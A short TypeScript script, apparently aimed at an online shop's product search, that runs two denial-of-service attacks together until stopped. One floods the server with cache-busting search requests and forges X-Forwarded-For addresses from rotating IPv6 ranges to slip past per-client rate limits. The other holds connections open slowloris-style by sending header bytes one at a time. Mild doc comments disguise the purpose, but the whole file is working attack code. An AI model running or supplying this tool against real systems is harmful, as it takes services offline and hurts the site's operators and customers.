import { randomUUID } from 'node:crypto'
import { request } from 'node:http'
import { createConnection } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'

const [, , url = '', count = '200'] = process.argv
const half = Number(count) / 2

/** Asks for one page after the other, under a search and a parameter that nobody asked before, from a /64 beside the others. */
async function ask(index: number): Promise<never> {
  for (;;) {
    const address = `${url}/products?q=${randomUUID()}&category=rings&x=${randomUUID()}`
    const headers = { 'X-Forwarded-For': `2001:db8:ffff:${index.toString(16)}::1`, 'Accept-Encoding': 'br' }
    await new Promise<void>((resolve) => {
      const sent = request(address, { agent: false, headers }, (response) => {
        response.on('end', resolve).on('error', () => resolve())
        response.resume()
      })
      sent.on('error', () => resolve()).end()
    })
    await pause(10)
  }
}

/** Sends a header byte by byte, again and again. */
async function dawdle(): Promise<never> {
  const { hostname, port } = new URL(url)
  for (;;) {
    const socket = createConnection(Number(port), hostname)
    socket.on('error', () => {})
    socket.write('GET / HTTP/1.1\r\nHost: shop\r\nX-Slow: ')
    for (let sent = 0; !socket.destroyed && sent < 100; sent++) {
      socket.write('x')
      await pause(200)
    }
    socket.destroy()
  }
}

// Until it is stopped.
await Promise.all(Array.from({ length: half }, (_, index) => Promise.all([ask(index), dawdle()])))
